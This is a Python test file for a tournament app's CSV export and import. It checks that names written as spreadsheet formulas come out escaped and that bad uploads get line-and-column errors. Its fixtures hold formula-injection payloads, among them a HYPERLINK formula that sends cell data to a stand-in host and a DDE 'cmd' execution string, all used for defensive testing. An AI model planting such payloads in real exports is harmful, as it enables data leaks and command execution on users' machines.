"""The CSV files (clubs.md, Exports): no cell of an export is a formula for a spreadsheet,
numbers stay numbers, and the players' import takes exactly one name a line or the export
back, whatever the line endings and encoding, answering 400 with the line and the column
of the first bad value (never 500, nothing stored from a bad file)."""

from __future__ import annotations

import codecs
import csv
import io
import re
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from tests.tournaments.api.test_clubs import Club, _play
from tournaments.brackets.standings import METRICS
from tournaments.models import Player

FORMULA = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")
# Names a spreadsheet would run as formulas: each passes the name rule.
HOSTILE = [
    ['=HYPERLINK("http://e.vil/"&A1)', "+1+2"],
    ["-2+3", "@SUM(A1:A9)"],
    ["=1+1", "Carla"],
    ["Dario", "-cmd|' /C calc'!A0"],
]
TEAMS = ["=T1", "+T2", "-T3", "@T4"]


@pytest.fixture
def api(transactional_db: None) -> Club:
    return Club()


def _rows(response: Any) -> list[list[str]]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response.content.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def _no_formula(rows: list[list[str]]) -> None:
    """Every cell: a number, or text no spreadsheet takes for a formula."""
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA) or NUMBER.fullmatch(value), (value, row)


def _hostile_evening(api: Club) -> tuple[dict[str, Any], dict[str, Any]]:
    """A club, its season, a tournament, its teams and players all named as formulas; the
    round played (the losers' points difference is negative)."""
    club = api.club(name="=cmd|' /C calc'!A0")
    season = api.post(
        f"/api/clubs/{club['id']}/seasons/", {"name": "+S", "scoring": "match_points"}
    )
    assert season.status_code == 201, season.json()
    body = {
        "name": "@Friday",
        "variant": "tarneeb",
        "hands_per_match": 1,
        "auto_advance": False,
        "season": 1,
        "stages": [{"format": "swiss", "rounds": 1}],
        "entries": [{"name": name, "players": p} for name, p in zip(TEAMS, HOSTILE, strict=True)],
    }
    response = api.post(f"/api/clubs/{club['id']}/tournaments/", body)
    assert response.status_code == 201, response.json()
    tournament = response.json()
    api.start(tournament)
    _play(api, tournament, {})
    return club, tournament


def test_no_export_cell_is_a_formula_and_numbers_stay_numbers(api):
    club, tournament = _hostile_evening(api)
    view = tournament["view_id"]
    standings = _rows(api.get(f"/api/tournaments/{view}/standings/?format=csv"))
    results = _rows(api.get(f"/api/tournaments/{view}/results.csv"))
    season = _rows(api.get(f"/api/clubs/{club['view_id']}/seasons/1/standings/?format=csv"))
    players = _rows(api.get(f"/api/clubs/{club['view_id']}/players.csv"))
    for rows in (standings, results, season, players):
        _no_formula(rows)
    everyone = [name for team in HOSTILE for name in team]
    assert sorted(row[1] for row in players[1:]) == sorted(
        "'" + name if name.startswith(FORMULA) else name for name in everyone
    )
    assert {row[2] for row in season[1:]} == {row[1] for row in players[1:]}
    assert sorted(row[2] for row in standings[1:]) == sorted("'" + name for name in TEAMS)
    cells = [value for row in results[1:] for value in row]
    assert any(HOSTILE[0][0] in value for value in cells)  # the players, and the teams:
    assert any(value[:3] in ("'=T", "'+T", "'-T", "'@T") for value in cells)
    # The losers' points difference is a negative number, written as one.
    diff = 3 + METRICS.index("points_diff")
    losers = [row[diff] for row in standings[1:] if row[diff].startswith("-")]
    assert losers and all(NUMBER.fullmatch(value) for value in losers)


def test_the_players_export_goes_back_in_with_its_names_unchanged(api):
    club, _tournament = _hostile_evening(api)
    exported = api.client.get(
        f"/api/clubs/{club['view_id']}/players.csv", HTTP_ACCEPT_LANGUAGE="ar"
    )
    back = SimpleUploadedFile("players.csv", exported.content)
    answer = api.client.post(f"/api/clubs/{club['id']}/players/", {"file": back})
    assert answer.status_code == 200, answer.json()
    everyone = [name for team in HOSTILE for name in team]
    assert answer.json() == {"new": [], "existing": sorted(everyone, key=_number_of(club, api))}
    assert Player.objects.count() == len(everyone)


def _number_of(club: dict[str, Any], api: Club) -> Any:
    numbers = {p["name"]: p["number"] for p in api.players(club).values()}
    return lambda name: numbers[name]


NAMES = ["Anna", "Zoë", "سارا", "مریم", "Rossi, Mario", "=1+1"]


def _file(names: list[str], encoding: str, ending: str) -> bytes:
    """One name a line, as a spreadsheet writes it (a name with a comma quoted)."""
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator=ending).writerows([name] for name in names)
    return out.getvalue().encode(encoding)


def _import(api: Club, club: dict[str, Any], content: bytes, **headers: str) -> Any:
    upload = SimpleUploadedFile("names.csv", content)
    return api.client.post(f"/api/clubs/{club['id']}/players/", {"file": upload}, **headers)


@pytest.mark.parametrize("ending", ["\r\n", "\n", "\r"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-be-bom"])
def test_one_name_a_line_in_any_encoding_and_line_ending(api, encoding, ending):
    club = api.club()
    if encoding == "utf-16-be-bom":
        content = codecs.BOM_UTF16_BE + _file(NAMES, "utf-16-be", ending)
    else:
        content = _file(NAMES, encoding, ending)
    answer = _import(api, club, content)
    assert answer.status_code == 200, answer.json()
    assert answer.json() == {"new": NAMES, "existing": []}


@pytest.mark.parametrize("language", ["en", "fr", "it", "ar", "fa", "hy"])
def test_the_export_back_in_any_language_and_resaved_with_semicolons(api, language):
    club = api.club()
    assert _import(api, club, _file(NAMES, "utf-8", "\n")).status_code == 200
    exported = api.client.get(
        f"/api/clubs/{club['view_id']}/players.csv", HTTP_ACCEPT_LANGUAGE=language
    )
    answer = _import(api, club, exported.content)
    assert answer.status_code == 200, answer.json()
    assert answer.json() == {"new": [], "existing": NAMES}
    rows = _rows(exported)
    resaved = io.StringIO(newline="")
    csv.writer(resaved, delimiter=";").writerows(rows)  # as a French or Italian Excel saves
    answer = _import(api, club, resaved.getvalue().encode("utf-8-sig"))
    assert answer.status_code == 200, answer.json()
    assert answer.json() == {"new": [], "existing": NAMES}


def _refused(api: Club, content: bytes, language: str = "en") -> str:
    """The 400's sentence; nothing stored."""
    club = api.club()
    before = Player.objects.count()
    answer = _import(api, club, content, HTTP_ACCEPT_LANGUAGE=language)
    assert answer.status_code == 400, answer.content[:500]
    assert list(answer.json()) == ["file"]
    assert Player.objects.count() == before
    return answer.json()["file"][0]


def test_a_file_of_several_columns_is_refused_at_its_first_extra_value(api):
    four = b"1,Anna,1500,12\n2,Bruno,1400,10\n"
    assert _refused(api, four).startswith("Line 1, column 2: One name a line")
    later = b"Anna\nBruno\nCarla,,\nDario,x\n"
    assert _refused(api, later).startswith("Line 4, column 2:")
    assert _refused(api, later, "fr").startswith("Ligne 4, colonne 2")


def test_a_header_only_or_empty_file_stores_nothing(api):
    exported_header = "\ufeffNumber,Name,Rating,mu,sigma,Rated pairings,Tournaments,Last played\r\n"
    assert "no names" in _refused(api, exported_header.encode())
    assert "no names" in _refused(api, b"")
    assert "no names" in _refused(api, b"\r\n\r\n  \n")


def test_the_export_needs_the_players_number_first(api):
    header = "Number,Name,Rating,mu,sigma,Rated pairings,Tournaments,Last played\n"
    bad = (header + "1,Anna,,,,,,\nx,Bruno,,,,,,\n").encode()
    assert _refused(api, bad).startswith("Line 3, column 1:")
    wide = (header + "1,Anna,,,,,,,extra\n").encode()
    assert _refused(api, wide).startswith("Line 2, column 9:")


def test_utf16_without_a_byte_order_mark_is_named_as_not_utf8(api):
    message = _refused(api, "Anna\nBruno\n".encode("utf-16-le"))
    assert message.startswith("Line 1, column 1:") and "UTF-8" in message
    message = _refused(api, "سارا\n".encode("utf-16-be"))
    assert message.startswith("Line 1, column 1:") and "UTF-8" in message
    latin1 = _refused(api, "Anna\nZoë,\n".encode("latin-1"))
    assert latin1.startswith("Line 2, column 1:") and "UTF-8" in latin1


@pytest.mark.parametrize("length", [131_072, 131_073, 400_000])
def test_a_field_longer_than_the_csv_modules_limit_is_a_400_naming_it(api, length):
    content = b'Anna\nBruno,"' + b"x" * length + b'"\n'
    assert _refused(api, content).startswith("Line 2, column 2:")
    assert _refused(api, b"Anna\n" + b"y" * length + b"\n").startswith("Line 2, column 1:")


def test_a_name_after_a_quoted_line_break_is_named_by_its_line(api):
    content = b'Anna\r"Bru\rno"\rCarla\r\xe2\x80\xaeDario\r'
    assert _refused(api, content).startswith("Line 2, column 1:")  # the line break
    content = b"Anna\rCarla\r\xe2\x80\xaeDario\r"
    assert _refused(api, content).startswith("Line 3, column 1:")  # the bidi override


def test_a_file_over_the_upload_limit_is_refused(api):
    content = b"Anna\n" * (1024 * 1024 // 5 + 1)
    assert "larger than" in _refused(api, content)


def test_the_desks_import_form_answers_a_huge_field_with_the_line(api):
    club = api.club()
    upload = SimpleUploadedFile("names.csv", b"Anna\r" + b"z" * 200_000 + b"\r")
    page = api.client.post(f"/club/{club['id']}/import/", {"file": upload})
    assert page.status_code == 400
    assert "Line 2, column 1" in page.content.decode()
    assert Player.objects.count() == 0
